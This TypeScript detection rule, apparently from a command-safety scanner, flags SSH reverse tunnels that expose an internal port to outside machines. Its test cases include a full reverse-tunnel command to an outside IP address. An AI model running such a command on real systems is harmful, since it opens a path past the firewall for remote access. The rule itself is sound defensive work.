import { eachCommand, programOf, wordsOf, type Rule } from './rule.ts'

export const rule: Rule = {
  id: 'reverse-tunnel',
  level: 'stop',
  why: 'Machines outside reach a port in here, past the firewall.',
  techniques: ['T1572', 'T1090'],
  needs: { programs: ['ssh', 'autossh'] },
  find: (facts) =>
    eachCommand(
      facts,
      (command) => {
        if (!/^(ssh|autossh)$/.test(programOf(command))) return false
        const words = wordsOf(command)
        const at = words.findIndex((word) => /^-\w*R$/.test(word))
        const bound =
          words.find((word) => /^-\w*R\S/.test(word))?.replace(/^-\w*?R/, '') ??
          (at > 0 ? (words[at + 1] ?? '') : undefined)
        return (
          bound !== undefined &&
          (/^(0\.0\.0\.0|\*|::|\[::\]|):/.test(bound) || words.some((word) => /@(\d{1,3}\.){3}\d/.test(word)))
        )
      },
      () => 'a tunnel lets machines outside reach a port in here',
    ),
  fires: ['ssh -fNR 0.0.0.0:2222:127.0.0.1:22 u@198.51.100.7'],
  silent: ['ssh -fNL 5432:127.0.0.1:5432 db01', 'ssh web1 uptime'],
}
